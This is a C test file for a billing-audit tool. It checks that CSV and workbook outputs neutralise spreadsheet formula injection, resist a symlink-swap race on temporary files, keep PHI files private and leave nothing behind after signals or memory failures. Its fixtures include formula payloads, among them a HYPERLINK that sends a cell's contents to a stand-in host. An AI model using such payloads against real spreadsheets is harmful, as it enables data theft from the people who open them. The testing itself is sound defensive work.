/* test_hostile.c - outputs that cannot be turned against their readers, and
 * a run that cannot be made to leak or leave PHI behind (issue 17).
 *
 * Through the real command line: formula-like text in every CSV output is
 * neutralised with a leading ' (numbers left alone) and the workbook holds
 * it as text; a byte-swapped BOM (U+FFFE), U+FFFF or a lone surrogate in
 * any field is replaced at import with a Data Quality entry, and every part
 * of the workbook is well-formed XML (xmllint), a literal "_x000D_" shown as
 * written; an output that is an input or another output, however spelled,
 * is refused before anything is read (exit 2, both options named); an
 * existing output that is not a regular file is never replaced; a temporary
 * file swapped for a symlink during the run reaches nothing; PHI outputs are
 * 0600 whatever the umask and no existing target's mode is widened; every
 * catchable terminating signal and a failed allocation leave no temporary
 * file; core dumps are off unless DERMAUDIT_CORE_DUMPS=1; one encounter of
 * many lines, and many payers, cost no more than ordinary encounters.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "import.h"

#define CLI DA_BINARY_DIR "/dermaudit"

/* Identifiers and names that a spreadsheet would run as formulas. */
#define PAYER "=HYPERLINK(\"http://x.test/?a=\"&E2,\"Click\")"
static const char formula_claims[] =
    "claim_id,line,encounter_id,patient_id,date_of_service,provider,payer,cpt,units,charge\n"
    "=C1,1,+E1,-P1,2026-07-01,@Dr Who,\"=HYPERLINK(\"\"http://x.test/?a=\"\"&E2,\"\"Click\"\")\","
    "17311,1,900.00\n";
static const char formula_notes[] =
    "note_id,encounter_id,patient_id,date_of_service,provider,text\n"
    "=N1,+E1,-P1,2026-07-01,@Dr Who,\"Mohs surgery, left nasal ala. Stage 1: 2 blocks, "
    "positive. Stage 2: 3 blocks, clear.\"\n";

/* U+FFFE in the payer, U+FFFF and a lone surrogate in the note, a literal
 * _x000D_ in the provider's name and in the note. */
static const char odd_claims[] =
    "claim_id,line,encounter_id,patient_id,date_of_service,provider,payer,cpt,units,charge\n"
    "C1,1,E1,P1,2026-07-01,Dr Who _x000D_,\"Pay\xef\xbf\xbe"
    "er\",17311,1,900.00\n";
static const char odd_notes[] =
    "note_id,encounter_id,patient_id,date_of_service,provider,text\n"
    "N1,E1,P1,2026-07-01,Dr Who,\"Mohs surgery, left nasal ala. Stage 1: 2 blocks, positive. "
    "Stage 2: 3 blocks, clear _x000D_ \xef\xbf\xbf \xed\xa0\x80.\"\n";

/* A scratch directory, the small inputs above, and 10x the sample (a run
 * long enough to be interrupted or raced). */
typedef struct fixture {
    char dir[128];     /* scratch directory, in the build tree */
    char claims[256];  /* 10x claims */
    char notes[256];   /* 10x notes */
    char fclaims[256]; /* formula_claims */
    char fnotes[256];  /* formula_notes */
} fixture;

static fixture fx;

static int run(const char *cmd)
{
    int status = system(cmd);
    if (!WIFEXITED(status))
        return -1;
    return WEXITSTATUS(status);
}

static char *slurp(const char *path)
{
    FILE *fp = fopen(path, "rb");
    assert_non_null(fp);
    size_t len = 0, cap = 4096;
    char *s = malloc(cap);
    size_t n;
    while ((n = fread(s + len, 1, cap - len - 1, fp)) > 0) {
        len += n;
        if (cap - len < 2)
            s = realloc(s, cap *= 2);
    }
    s[len] = '\0';
    fclose(fp);
    return s;
}

static void write_file(const char *path, const char *text, size_t len)
{
    FILE *fp = fopen(path, "wb");
    assert_non_null(fp);
    assert_int_equal(fwrite(text, 1, len, fp), len);
    assert_int_equal(fclose(fp), 0);
}

/* Entries in dir other than . and ..; the first one's name in first. */
static size_t dir_entries(const char *dir, char *first, size_t first_size)
{
    DIR *dp = opendir(dir);
    assert_non_null(dp);
    size_t n = 0;
    struct dirent *de;
    while ((de = readdir(dp)))
        if (strcmp(de->d_name, ".") != 0 && strcmp(de->d_name, "..") != 0) {
            if (n++ == 0 && first)
                snprintf(first, first_size, "%s", de->d_name);
        }
    closedir(dp);
    return n;
}

/* Entries of dir whose name holds ".partial-". */
static size_t partials(const char *dir, char names[][256], size_t max)
{
    DIR *dp = opendir(dir);
    assert_non_null(dp);
    size_t n = 0;
    struct dirent *de;
    while ((de = readdir(dp)))
        if (strstr(de->d_name, ".partial-")) {
            if (n < max)
                snprintf(names[n], 256, "%s", de->d_name);
            n++;
        }
    closedir(dp);
    return n;
}

static void make_dir(char *out, size_t size, const char *name)
{
    snprintf(out, size, "%s/%s", fx.dir, name);
    assert_int_equal(mkdir(out, 0755), 0);
}

static void remove_tree(const char *path)
{
    char cmd[512];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", path);
    assert_int_equal(run(cmd), 0);
}

static void sleep_ms(long ms)
{
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
}

static int setup(void **state)
{
    (void)state;
    if ((size_t)snprintf(fx.dir, sizeof(fx.dir), "%s/da-hostile-XXXXXX", DA_BINARY_DIR) >=
            sizeof(fx.dir) ||
        !mkdtemp(fx.dir))
        return -1;
    char cmd[512];
    snprintf(cmd, sizeof(cmd), "'%s/dermaudit-sample' --scale 10 --out '%s/x10' >/dev/null 2>&1",
             DA_BINARY_DIR, fx.dir);
    if (run(cmd) != 0)
        return -1;
    snprintf(fx.claims, sizeof(fx.claims), "%s/x10/claims.csv", fx.dir);
    snprintf(fx.notes, sizeof(fx.notes), "%s/x10/notes.csv", fx.dir);
    snprintf(fx.fclaims, sizeof(fx.fclaims), "%s/fclaims.csv", fx.dir);
    snprintf(fx.fnotes, sizeof(fx.fnotes), "%s/fnotes.csv", fx.dir);
    write_file(fx.fclaims, formula_claims, sizeof(formula_claims) - 1);
    write_file(fx.fnotes, formula_notes, sizeof(formula_notes) - 1);
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    char cmd[512];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", fx.dir);
    return run(cmd) == 0 ? 0 : -1;
}

/* ---- formula neutralisation ---- */

/* Splits one CSV line into cells (quotes undone) and checks that none would
 * run as a formula: a first character = + - @ tab or CR is only allowed in a
 * plain signed number. Returns the number of cells. */
static size_t check_cells(const char *line, const char *path)
{
    size_t count = 0;
    const char *p = line;
    for (;;) {
        char cell[1024];
        size_t n = 0;
        if (*p == '"') {
            for (p++; *p && !(*p == '"' && p[1] != '"'); p++) {
                if (*p == '"')
                    p++;
                if (n + 1 < sizeof(cell))
                    cell[n++] = *p;
            }
            if (*p == '"')
                p++;
        } else {
            while (*p && *p != ',' && *p != '\n')
                if (n + 1 < sizeof(cell))
                    cell[n++] = *p++;
                else
                    p++;
        }
        cell[n] = '\0';
        count++;
        if (strchr("=+-@\t\r", cell[0]) && cell[0]) {
            char *end;
            strtod(cell, &end);
            if (*end != '\0')
                fail_msg("%s: a cell a spreadsheet would run: %s", path, cell);
        }
        if (*p != ',')
            break;
        p++;
    }
    return count;
}

static void check_csv(const char *path)
{
    char *text = slurp(path);
    size_t lines = 0;
    for (char *line = text; *line;) {
        char *nl = strchr(line, '\n');
        if (nl)
            *nl = '\0';
        check_cells(line, path);
        lines++;
        if (!nl)
            break;
        line = nl + 1;
    }
    assert_true(lines >= 2);
    free(text);
}

static void test_formula_cells_neutralised(void **state)
{
    (void)state;
    char dir[256], cmd[2048];
    make_dir(dir, sizeof(dir), "formula");
    snprintf(cmd, sizeof(cmd),
             "cd '%s' && '%s' --claims '%s' --notes '%s' --out r.xlsx --findings f.csv "
             "--facts facts.csv 2>/dev/null && '%s' --claims '%s' --notes '%s' --out m.xlsx "
             "--mask-phi --mask-key-out key.csv 2>/dev/null",
             dir, CLI, fx.fclaims, fx.fnotes, CLI, fx.fclaims, fx.fnotes);
    assert_int_equal(run(cmd), 0);
    char path[512];
    const char *files[] = {"f.csv", "facts.csv", "key.csv"};
    for (size_t i = 0; i < 3; i++) {
        snprintf(path, sizeof(path), "%s/%s", dir, files[i]);
        check_csv(path);
    }
    /* The exact cells, worked out by hand: a ' before each formula-like
     * text; the amount (a number) as it was. */
    snprintf(path, sizeof(path), "%s/f.csv", dir);
    char *text = slurp(path);
    assert_non_null(strstr(text, "mohs,MOHS-STAGES,under,high,'-P1,2026-07-01,'+E1,'=C1,'@Dr Who,"
                                 "\"'=HYPERLINK(\"\"http://x.test/?a=\"\"&E2,\"\"Click\"\")\","
                                 ",0,17312,1,402.81,"));
    free(text);
    snprintf(path, sizeof(path), "%s/facts.csv", dir);
    text = slurp(path);
    assert_non_null(strstr(text, "\n'=N1,'+E1,0,mohs,"));
    free(text);
    snprintf(path, sizeof(path), "%s/key.csv", dir);
    text = slurp(path);
    assert_non_null(strstr(text, "\nclaim,'=C1,CL-"));
    assert_non_null(strstr(text, "\nencounter,'+E1,EN-"));
    assert_non_null(strstr(text, "\npatient,'-P1,PT-"));
    free(text);
    /* The workbook holds the payer as a string cell, never a formula. */
    snprintf(cmd, sizeof(cmd),
             "cd '%s' && ! unzip -p r.xlsx 'xl/worksheets/*.xml' | grep -q '<f>' && "
             "unzip -p r.xlsx 'xl/worksheets/*.xml' | grep -q "
             "'t=\"inlineStr\"><is><t>=HYPERLINK(\"http://x.test/'",
             dir);
    assert_int_equal(run(cmd), 0);
    /* The --previous reader takes the cells back as they were. */
    snprintf(cmd, sizeof(cmd),
             "cd '%s' && '%s' --claims '%s' --notes '%s' --out t.xlsx --template quarterly "
             "--previous f.csv 2>/dev/null && unzip -p t.xlsx xl/worksheets/sheet2.xml | "
             "grep -q '<t>recurring</t>'",
             dir, CLI, fx.fclaims, fx.fnotes);
    assert_int_equal(run(cmd), 0);
    remove_tree(dir);
}

/* ---- XML-invalid characters and Office escapes ---- */

static void test_xml_invalid_replaced_at_import(void **state)
{
    (void)state;
    da_dataset d;
    da_dataset_init(&d);
    da_import_result r;
    assert_int_equal(da_import_claims_mem(&d, "c.csv", odd_claims, sizeof(odd_claims) - 1, &r),
                     DA_OK);
    assert_int_equal(da_import_notes_mem(&d, "n.csv", odd_notes, sizeof(odd_notes) - 1, &r),
                     DA_OK);
    assert_int_equal(d.nclaims, 1);
    assert_string_equal(d.claims[0].payer, "Pay\xef\xbf\xbd"
                                           "er");
    assert_int_equal(d.nnotes, 1);
    assert_non_null(strstr(d.notes[0].text, "clear _x000D_ \xef\xbf\xbd \xef\xbf\xbd."));
    /* One entry per row, naming the column. */
    assert_int_equal(d.dq.count, 2);
    const char *reason = "character not allowed in XML replaced (U+FFFE, U+FFFF or a surrogate)";
    assert_string_equal(d.dq.items[0].reason, reason);
    assert_string_equal(d.dq.items[0].column, "payer");
    assert_int_equal(d.dq.items[0].line, 2);
    assert_string_equal(d.dq.items[1].reason, reason);
    assert_string_equal(d.dq.items[1].column, "text");
    da_dataset_free(&d);
}

static void test_workbook_well_formed(void **state)
{
    (void)state;
    char dir[256], cmd[2048], path[512];
    make_dir(dir, sizeof(dir), "xml");
    snprintf(path, sizeof(path), "%s/c.csv", dir);
    write_file(path, odd_claims, sizeof(odd_claims) - 1);
    snprintf(path, sizeof(path), "%s/n.csv", dir);
    write_file(path, odd_notes, sizeof(odd_notes) - 1);
    snprintf(cmd, sizeof(cmd),
             "cd '%s' && '%s' --claims c.csv --notes n.csv --out r.xlsx 2>/dev/null && mkdir x && "
             "cd x && unzip -q ../r.xlsx",
             dir, CLI);
    assert_int_equal(run(cmd), 0);
    /* Every part parses. */
    snprintf(cmd, sizeof(cmd),
             "cd '%s/x' && find . -type f | while read f; do xmllint --noout \"$f\" || exit 1; "
             "done",
             dir);
    assert_int_equal(run(cmd), 0);
    /* The literal _x000D_ is escaped, so it reads back as written. */
    snprintf(cmd, sizeof(cmd),
             "cd '%s/x' && grep -q '<t>Dr Who _x005F_x000D_</t>' xl/worksheets/*.xml && "
             "! grep -q 'Who _x000D_' xl/worksheets/*.xml",
             dir);
    assert_int_equal(run(cmd), 0);
    remove_tree(dir);
}

/* ---- colliding and special output paths ---- */

/* Runs the CLI in dir with args; stderr to dir/err. Returns the status. */
static int cli_in(const char *dir, const char *args)
{
    char cmd[4096];
    snprintf(cmd, sizeof(cmd), "cd '%s' && '%s' %s 2>err >/dev/null", dir, CLI, args);
    return run(cmd);
}

static void expect_err(const char *dir, const char *want)
{
    char path[512];
    snprintf(path, sizeof(path), "%s/err", dir);
    char *text = slurp(path);
    bool said = strstr(text, want) != NULL;
    if (!said)
        print_error("stderr: %s\n", text);
    free(text);
    if (!said)
        fail_msg("expected '%s' on stderr", want);
}

static void test_colliding_outputs(void **state)
{
    (void)state;
    char dir[256], path[512], args[2048];
    make_dir(dir, sizeof(dir), "collide");
    snprintf(path, sizeof(path), "%s/c.csv", dir);
    write_file(path, formula_claims, sizeof(formula_claims) - 1);
    snprintf(path, sizeof(path), "%s/n.csv", dir);
    write_file(path, formula_notes, sizeof(formula_notes) - 1);
    assert_int_equal(mkdir(strcat(strcpy(path, dir), "/sub"), 0755), 0);
    assert_int_equal(symlink("c.csv", strcat(strcpy(path, dir), "/link.csv")), 0);
    assert_int_equal(link(strcat(strcpy(path, dir), "/n.csv"), strcat(strcpy(args, dir), "/hard.csv")),
                     0);

    /* The workbook over an input, by name, through a symlink, through a
     * hard link and with a path that goes round. */
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out c.csv"), 2);
    expect_err(dir, "dermaudit: --out and --claims are the same file (c.csv); nothing was written\n");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out link.csv"), 2);
    expect_err(dir, "--out and --claims are the same file");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out hard.csv"), 2);
    expect_err(dir, "--out and --notes are the same file");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out sub/../n.csv"), 2);
    expect_err(dir, "--out and --notes are the same file");
    /* Other outputs over inputs, and outputs over each other: a file that
     * does not exist yet, compared by its resolved path. */
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out r.xlsx --facts ./n.csv"), 2);
    expect_err(dir, "--facts and --notes are the same file");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out r.xlsx --findings sub/../r.xlsx"),
                     2);
    expect_err(dir, "--out and --findings are the same file");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out r.xlsx --mask-phi "
                                 "--mask-key-out ./r.xlsx"),
                     2);
    expect_err(dir, "--out and --mask-key-out are the same file");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out r.xlsx --findings f.csv "
                                 "--facts f.csv"),
                     2);
    expect_err(dir, "--findings and --facts are the same file");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out r.xlsx --mask-phi "
                                 "--mask-secret s.key --mask-key-out s.key"),
                     2);
    expect_err(dir, "--mask-key-out and --mask-secret are the same file");
    /* Before anything is read: the claims file does not even exist. */
    assert_int_equal(cli_in(dir, "--claims none.csv --notes n.csv --out r.xlsx --findings r.xlsx"),
                     2);
    expect_err(dir, "--out and --findings are the same file");
    /* The inputs are intact and nothing was written. */
    snprintf(path, sizeof(path), "%s/c.csv", dir);
    char *text = slurp(path);
    assert_string_equal(text, formula_claims);
    free(text);
    snprintf(path, sizeof(path), "%s/n.csv", dir);
    text = slurp(path);
    assert_string_equal(text, formula_notes);
    free(text);
    assert_int_equal(dir_entries(dir, NULL, 0), 6); /* c n sub link hard err */
    remove_tree(dir);
}

static void test_special_outputs(void **state)
{
    (void)state;
    char dir[256], path[512];
    make_dir(dir, sizeof(dir), "special");
    snprintf(path, sizeof(path), "%s/c.csv", dir);
    write_file(path, formula_claims, sizeof(formula_claims) - 1);
    snprintf(path, sizeof(path), "%s/n.csv", dir);
    write_file(path, formula_notes, sizeof(formula_notes) - 1);
    snprintf(path, sizeof(path), "%s/fifo", dir);
    assert_int_equal(mkfifo(path, 0600), 0);
    snprintf(path, sizeof(path), "%s/d", dir);
    assert_int_equal(mkdir(path, 0755), 0);
    assert_int_equal(symlink("fifo", strcat(strcpy(path, dir), "/to-fifo")), 0);

    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out r.xlsx --findings fifo"), 2);
    expect_err(dir, "dermaudit: --findings fifo: exists and is not a regular file; refusing to "
                    "replace it\n");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out to-fifo"), 2);
    expect_err(dir, "--out to-fifo: exists and is not a regular file");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out d"), 2);
    expect_err(dir, "--out d: exists and is not a regular file");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out r.xlsx --facts /dev/null"), 2);
    expect_err(dir, "--facts /dev/null: exists and is not a regular file");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out /dev/stdout"), 2);
    expect_err(dir, "--out /dev/stdout: exists and is not a regular file");
    assert_int_equal(cli_in(dir, "--claims c.csv --notes n.csv --out ''"), 2);
    expect_err(dir, "dermaudit: --out: empty path\n");
    /* An input that is a directory is named as one (it said "No such file
     * or directory" after the run had started). */
    assert_int_equal(cli_in(dir, "--claims c.csv --notes d --out r.xlsx"), 2);
    expect_err(dir, "dermaudit: --notes d: is a directory\n");
    struct stat st;
    assert_int_equal(lstat(strcat(strcpy(path, dir), "/fifo"), &st), 0);
    assert_true(S_ISFIFO(st.st_mode));
    assert_int_equal(lstat(strcat(strcpy(path, dir), "/to-fifo"), &st), 0);
    assert_true(S_ISLNK(st.st_mode));
    assert_int_equal(stat("/dev/null", &st), 0);
    assert_true(S_ISCHR(st.st_mode));
    assert_int_equal(dir_entries(dir, NULL, 0), 6);
    remove_tree(dir);
}

/* ---- the temporary files ---- */

/* Starts the CLI writing r.xlsx, f.csv and facts.csv into dir, stderr to
 * dir.err; env, when not NULL, is set to 1. On the 10x practice, or, with a
 * notes FIFO (held), on formula_claims and the notes the test writes to the
 * FIFO when it chooses: the run waits there, its temporary files created. */
static pid_t start_on(const char *dir, const char *env, const char *held)
{
    char out[512], fout[512], facts[512], errs[512];
    snprintf(out, sizeof(out), "%s/r.xlsx", dir);
    snprintf(fout, sizeof(fout), "%s/f.csv", dir);
    snprintf(facts, sizeof(facts), "%s/facts.csv", dir);
    snprintf(errs, sizeof(errs), "%s.err", dir);
    pid_t pid = fork();
    assert_true(pid >= 0);
    if (pid == 0) {
        int fd = open(errs, O_WRONLY | O_CREAT | O_TRUNC, 0600);
        if (fd < 0 || dup2(fd, STDERR_FILENO) < 0)
            _exit(127);
        signal(SIGPIPE, SIG_DFL);
        if (env)
            setenv(env, "1", 1);
        execl(CLI, CLI, "--claims", held ? fx.fclaims : fx.claims, "--notes",
              held ? held : fx.notes, "--out", out, "--findings", fout, "--facts", facts,
              (char *)NULL);
        _exit(127);
    }
    return pid;
}

static pid_t start(const char *dir, const char *env)
{
    return start_on(dir, env, NULL);
}

/* A FIFO for the notes of a held run. */
static void make_fifo(char *out, size_t size, const char *name)
{
    snprintf(out, size, "%s/%s.fifo", fx.dir, name);
    assert_int_equal(mkfifo(out, 0600), 0);
}

/* Lets a held run go on: its notes through the FIFO. */
static void release(const char *fifo)
{
    int fd = open(fifo, O_WRONLY);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, formula_notes, sizeof(formula_notes) - 1),
                     (ssize_t)(sizeof(formula_notes) - 1));
    assert_int_equal(close(fd), 0);
}

/* Waits until the three temporary files of pid's run exist, their names in
 * names; kills the run when they never come (nothing is left waiting). */
static void wait_partials(const char *dir, char names[][256], pid_t pid)
{
    for (int i = 0; i < 6000; i++) {
        if (partials(dir, names, 3) == 3)
            return;
        sleep_ms(10);
    }
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
    fail_msg("no temporary files in %s", dir);
}

/* Another user who can write the directory swaps each temporary name for a
 * symlink to a file of the victim's: the file stays as it was, and the run
 * fails without renaming the symlink into place. */
static void test_temp_swapped_for_symlink(void **state)
{
    (void)state;
    char dir[256], names[3][256], victim[512], fifo[512];
    make_dir(dir, sizeof(dir), "race");
    make_fifo(fifo, sizeof(fifo), "race");
    snprintf(victim, sizeof(victim), "%s/victim", fx.dir);
    write_file(victim, "precious\n", 9);
    assert_int_equal(chmod(victim, 0600), 0);
    pid_t pid = start_on(dir, NULL, fifo);
    wait_partials(dir, names, pid);
    bool swapped = true;
    for (int i = 0; i < 3; i++) {
        char path[600];
        snprintf(path, sizeof(path), "%s/%.255s", dir, names[i]);
        swapped &= unlink(path) == 0 && symlink(victim, path) == 0;
    }
    release(fifo); /* before any check, so a failure leaves no program waiting */
    assert_true(swapped);
    int status;
    assert_int_equal(waitpid(pid, &status, 0), pid);
    assert_true(WIFEXITED(status));
    assert_int_equal(WEXITSTATUS(status), 1);
    char *text = slurp(victim);
    assert_string_equal(text, "precious\n");
    free(text);
    struct stat st;
    assert_int_equal(stat(victim, &st), 0);
    assert_int_equal(st.st_mode & 0777, 0600);
    char errs[512];
    snprintf(errs, sizeof(errs), "%s.err", dir);
    text = slurp(errs);
    assert_non_null(strstr(text, "the temporary file was replaced by someone else; not renamed"));
    free(text);
    /* No report, and no symlink renamed into place. */
    char left[256] = "";
    if (dir_entries(dir, left, sizeof(left)) != 0)
        fail_msg("left behind: %s", left);
    remove_tree(dir);
}

/* Files with PHI are 0600 whatever the umask; a masked workbook follows the
 * umask; an existing target's mode is never widened. */
static void test_modes(void **state)
{
    (void)state;
    char dir[256], cmd[2048], path[512];
    make_dir(dir, sizeof(dir), "modes");
    struct stat st;
    snprintf(cmd, sizeof(cmd),
             "cd '%s' && umask 0 && '%s' --claims '%s' --notes '%s' --out r.xlsx --findings f.csv "
             "--facts facts.csv 2>/dev/null && '%s' --claims '%s' --notes '%s' --out m.xlsx "
             "--mask-phi --mask-key-out key.csv 2>/dev/null",
             dir, CLI, fx.fclaims, fx.fnotes, CLI, fx.fclaims, fx.fnotes);
    assert_int_equal(run(cmd), 0);
    const char *phi[] = {"r.xlsx", "f.csv", "facts.csv", "key.csv"};
    for (size_t i = 0; i < 4; i++) {
        snprintf(path, sizeof(path), "%s/%s", dir, phi[i]);
        assert_int_equal(stat(path, &st), 0);
        if ((st.st_mode & 0777) != 0600)
            fail_msg("%s is mode %o", phi[i], st.st_mode & 0777);
    }
    snprintf(path, sizeof(path), "%s/m.xlsx", dir);
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_mode & 0777, 0666);
    /* Existing targets: 0640 stays 0640 for a masked workbook (umask 022
     * would give 0644), 0400 stays 0400 for findings. */
    assert_int_equal(chmod(path, 0640), 0);
    snprintf(path, sizeof(path), "%s/f.csv", dir);
    assert_int_equal(chmod(path, 0400), 0);
    snprintf(cmd, sizeof(cmd),
             "cd '%s' && umask 022 && '%s' --claims '%s' --notes '%s' --out m.xlsx --mask-phi "
             "--findings f.csv 2>/dev/null",
             dir, CLI, fx.fclaims, fx.fnotes);
    assert_int_equal(run(cmd), 0);
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_mode & 0777, 0400);
    snprintf(path, sizeof(path), "%s/m.xlsx", dir);
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_mode & 0777, 0640);
    remove_tree(dir);
}

/* ---- signals, memory, core dumps ---- */

static void check_signal(int sig, const char *name)
{
    char dir[256], names[3][256];
    make_dir(dir, sizeof(dir), name);
    pid_t pid = start(dir, NULL);
    wait_partials(dir, names, pid);
    sleep_ms(300);
    int status;
    assert_int_equal(waitpid(pid, &status, WNOHANG), 0); /* still running */
    assert_int_equal(kill(pid, sig), 0);
    assert_int_equal(waitpid(pid, &status, 0), pid);
    assert_true(WIFSIGNALED(status));
    assert_int_equal(WTERMSIG(status), sig);
    char left[256] = "";
    if (dir_entries(dir, left, sizeof(left)) != 0)
        fail_msg("%s left behind: %s", name, left);
    remove_tree(dir);
}

static void test_every_terminating_signal(void **state)
{
    (void)state;
    check_signal(SIGHUP, "sighup");
    check_signal(SIGUSR1, "sigusr1");
    check_signal(SIGPIPE, "sigpipe");
    check_signal(SIGUSR2, "sigusr2");
    check_signal(SIGALRM, "sigalrm");
    check_signal(SIGQUIT, "sigquit");
}

/* Under an address-space limit a failed allocation ends the run with status
 * 1 and a message, leaving no temporary file, never with abort(). The
 * limits span where the run fails and where it does not, so some limit hits
 * an allocation in the middle of the run. Skipped under sanitizers and
 * valgrind, whose own memory needs the address space. */
static void test_out_of_memory(void **state)
{
    (void)state;
#if defined(__SANITIZE_ADDRESS__) || DA_VALGRIND
    skip();
#endif
    static const int limits_mb[] = {120, 200};
    char dir[256], cmd[4096], errs[512];
    make_dir(dir, sizeof(dir), "oom");
    snprintf(errs, sizeof(errs), "%s/../oom.err", dir);
    size_t failed = 0;
    for (size_t i = 0; i < sizeof(limits_mb) / sizeof(limits_mb[0]); i++) {
        snprintf(cmd, sizeof(cmd),
                 "ulimit -v %d && exec '%s' --claims '%s' --notes '%s' --out '%s/r.xlsx' "
                 "--findings '%s/f.csv' --facts '%s/facts.csv' 2>'%s'",
                 limits_mb[i] * 1024, CLI, fx.claims, fx.notes, dir, dir, dir, errs);
        int status = system(cmd);
        if (!WIFEXITED(status))
            fail_msg("at %d MB: killed by signal %d", limits_mb[i], WTERMSIG(status));
        if (WEXITSTATUS(status) == 0) {
            remove_tree(dir);
            assert_int_equal(mkdir(dir, 0755), 0);
            continue;
        }
        failed++;
        assert_int_equal(WEXITSTATUS(status), 1);
        char *text = slurp(errs);
        assert_non_null(strstr(text, "out of memory"));
        free(text);
        char left[256] = "";
        if (dir_entries(dir, left, sizeof(left)) != 0)
            fail_msg("at %d MB: left behind: %s", limits_mb[i], left);
    }
    assert_true(failed > 0);
    remove_tree(dir);
}

/* The soft core limit the running program has, from /proc: 0 or -1 for
 * unlimited. */
static long core_limit(pid_t pid)
{
    char path[64], line[256];
    snprintf(path, sizeof(path), "/proc/%d/limits", (int)pid);
    FILE *fp = fopen(path, "r");
    assert_non_null(fp);
    long soft = -2;
    while (fgets(line, sizeof(line), fp))
        if (strncmp(line, "Max core file size", 18) == 0) {
            char value[32];
            assert_int_equal(sscanf(line + 18, "%31s", value), 1);
            soft = strcmp(value, "unlimited") == 0 ? -1 : atol(value);
        }
    fclose(fp);
    return soft;
}

static void check_core(const char *env, long want)
{
    char dir[256], names[3][256], fifo[512];
    make_dir(dir, sizeof(dir), env ? "core-on" : "core-off");
    make_fifo(fifo, sizeof(fifo), env ? "core-on" : "core-off");
    struct rlimit old, all = {RLIM_INFINITY, RLIM_INFINITY};
    assert_int_equal(getrlimit(RLIMIT_CORE, &old), 0);
    if (setrlimit(RLIMIT_CORE, &all) != 0) {
        remove_tree(dir);
        skip();
    }
    pid_t pid = start_on(dir, env, fifo);
    setrlimit(RLIMIT_CORE, &old);
    wait_partials(dir, names, pid);
    long got = core_limit(pid);
    release(fifo); /* first, so a failure leaves no program waiting */
    int status;
    assert_int_equal(waitpid(pid, &status, 0), pid);
    assert_true(WIFEXITED(status));
    assert_int_equal(WEXITSTATUS(status), 0);
    assert_int_equal(got, want);
    remove_tree(dir);
}

/* Skipped under valgrind, whose own limits /proc would show; ASan sets
 * the core limit to 0 itself (disable_coredump), so only the default is
 * checked there. */
static void test_core_dumps_off(void **state)
{
    (void)state;
#if DA_VALGRIND
    skip();
#endif
    check_core(NULL, 0);
#if !defined(__SANITIZE_ADDRESS__)
    check_core("DERMAUDIT_CORE_DUMPS", -1);
#endif
}

/* ---- inputs that make the run crawl ---- */

/* 10,000 claim lines, add-ons mostly without their primaries: in encounters
 * of four, all in one encounter (no encounter id, one patient and date), or
 * each with a payer of its own. */
static void write_crawl(const char *path, int kind)
{
    static const char *const codes[] = {"11103", "17003", "11201", "17312", "11105", "11107",
                                        "13102", "17004", "99213", "J3301", "96372", "88305",
                                        "11300", "11400", "12032", "17110", "15004", "17000"};
    FILE *fp = fopen(path, "w");
    assert_non_null(fp);
    fputs("claim_id,line,encounter_id,patient_id,date_of_service,provider,payer,cpt,units,charge,"
          "allowed,paid,status\n",
          fp);
    for (int i = 0; i < 10000; i++) {
        int enc = kind == 1 ? 0 : i / 4;
        char payer[32];
        snprintf(payer, sizeof(payer), "Payer %d", kind == 2 ? i : enc % 5);
        fprintf(fp, "C%d,%d,%s%.0d,P%d,2026-%02d-%02d,Dr A,%s,%s,1,100.00,60.00,50.00,paid\n",
                i / 4, i % 4 + 1, kind == 1 ? "" : "E", kind == 1 ? 0 : enc + 1, enc / 3,
                1 + enc / 28 % 12, 1 + enc % 28, payer, codes[i % 18]);
    }
    assert_int_equal(fclose(fp), 0);
}

/* CPU seconds of one CLI run on claims (children's user + system time, so
 * other work on the machine does not count). */
static double cpu_run(const char *dir, const char *claims)
{
    struct rusage before, after;
    getrusage(RUSAGE_CHILDREN, &before);
    char cmd[2048];
    snprintf(cmd, sizeof(cmd), "cd '%s' && '%s' --claims %s --notes n.csv --out r.xlsx 2>/dev/null",
             dir, CLI, claims);
    assert_int_equal(run(cmd), 0);
    getrusage(RUSAGE_CHILDREN, &after);
    double s = (double)(after.ru_utime.tv_sec - before.ru_utime.tv_sec) +
               (double)(after.ru_stime.tv_sec - before.ru_stime.tv_sec) +
               (double)(after.ru_utime.tv_usec - before.ru_utime.tv_usec) / 1e6 +
               (double)(after.ru_stime.tv_usec - before.ru_stime.tv_usec) / 1e6;
    return s;
}

/* One encounter of 10,000 lines, and 10,000 payers, each cost less than 3x
 * the same lines in ordinary encounters (before: 4x and 3.7x at 10,000
 * lines, growing with the square of the lines; the bench target's --stress
 * times 100,000). */
static void test_no_input_makes_the_run_crawl(void **state)
{
    (void)state;
    char dir[256], path[512];
    make_dir(dir, sizeof(dir), "crawl");
    const char *names[] = {"ord.csv", "one.csv", "pay.csv"};
    for (int k = 0; k < 3; k++) {
        snprintf(path, sizeof(path), "%s/%s", dir, names[k]);
        write_crawl(path, k);
    }
